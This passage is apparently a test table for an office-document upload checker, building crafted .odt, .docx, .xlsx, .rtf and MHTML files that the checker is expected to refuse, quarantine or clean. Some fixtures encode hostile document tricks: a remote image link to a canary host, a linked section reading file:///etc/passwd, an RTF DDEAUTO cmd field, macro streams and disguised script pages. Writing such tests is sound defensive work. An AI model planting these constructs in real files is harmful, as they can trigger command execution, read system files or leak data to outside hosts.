            body=b'<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
            **{"Object 1": compound("\x01Ole10Native")},
        ),
    ),
    refused(
        "T-55-odt-with-picture-elsewhere",
        "minutes.odt",
        partial(
            odt,
            body=b'<text:p><draw:frame><draw:image xlink:href="http://canary.example/a.png"/></draw:frame></text:p>',
        ),
    ),
    refused(
        "T-55-odt-linked-section",
        "minutes.odt",
        partial(
            odt,
            body=b'<text:section text:name="a"><text:section-source xlink:href="file:///etc/passwd"/></text:section>',
        ),
    ),
    refused("T-49-odt-locked", "minutes.odt", odt_locked, says="password"),
    at_once(
        "T-56-ods-named-odt",
        "sums.odt",
        partial(odt, mimetype="application/vnd.oasis.opendocument.spreadsheet"),
    ),
    at_once(
        "T-56-odt-template",
        "minutes.odt",
        partial(odt, mimetype="application/vnd.oasis.opendocument.text-template"),
    ),
    at_once(
        "T-56-odt-of-one-xml",
        "minutes.odt",
        fixed(
            b'<?xml version="1.0"?><office:document office:mimetype="application/vnd.oasis.opendocument.text"/>'
        ),
    ),
    at_once(
        "T-56-rtf",
        "minutes.rtf",
        fixed(b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}"),
    ),
    at_once(
        "T-56-rtf-named-docx", "minutes.docx", fixed(b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}")
    ),
    at_once("T-56-doc", "minutes.doc", partial(compound, "WordDocument", "Macros")),
    at_once("T-56-doc-named-docx", "minutes.docx", partial(compound, "WordDocument", "1Table")),
    at_once("T-56-xls-named-xlsx", "sums.xlsx", partial(compound, "Workbook", "_VBA_PROJECT_CUR")),
    at_once("T-56-mail-named-docx", "mail.docx", partial(compound, "__properties_version1.0")),
    at_once(
        "T-49-docx-locked",
        "minutes.docx",
        partial(compound, "EncryptionInfo", "EncryptedPackage"),
        says="password",
    ),
    at_once(
        "T-49-xlsx-locked",
        "sums.xlsx",
        partial(compound, "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"),
        says="password",
    ),
    at_once(
        "T-56-page-named-docx",
        "minutes.docx",
        fixed(b"<html xmlns:o='urn:schemas-microsoft-com:office:office'>" + SCRIPT),
    ),
    at_once(
        "T-56-mhtml-named-docx",
        "minutes.docx",
        fixed(b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT),
    ),
    at_once(
        "T-59-docx-without-content-types",
        "minutes.docx",
        lambda: without("[Content_Types].xml", docx_parts()),
    ),
    refused(
        "T-59-docx-without-document",
        "minutes.docx",
        lambda: without("word/document.xml", docx_parts()),
    ),
    refused(
        "T-59-xlsx-without-workbook", "sums.xlsx", lambda: without("xl/workbook.xml", xlsx_parts())
    ),
    refused(
        "T-59-odt-without-content",
        "minutes.odt",
        lambda: without("content.xml", offices.odt_parts()),
    ),
    refused(
        "T-59-docx-not-xml-inside",
        "minutes.docx",
        lambda: packed(docx_parts() | {"word/document.xml": jpegs.jpeg()}),
    ),
    refused(
        "T-59-docx-torn-xml",
        "minutes.docx",
        lambda: packed(
            docx_parts() | {"word/document.xml": docx_parts()["word/document.xml"][:-20]}
        ),
    ),
    *(
        at_once(
            f"T-59-{form}-cut-in-the-middle", f"a.{form}", partial(lambda make: make()[:400], make)
        )
        for form, make in (("docx", docx), ("xlsx", xlsx), ("pptx", pptx), ("odt", odt))
    ),
    at_once("T-59-docx-cut-before-its-end", "a.docx", lambda: docx()[:-20]),
    cleaned(
        "T-59-docx-named-pdf", "minutes.pdf", partial(docx, body=paragraph(b"Named otherwise"))
    ),
    cleaned("T-59-xlsx-named-docx", "minutes.docx", xlsx),
)
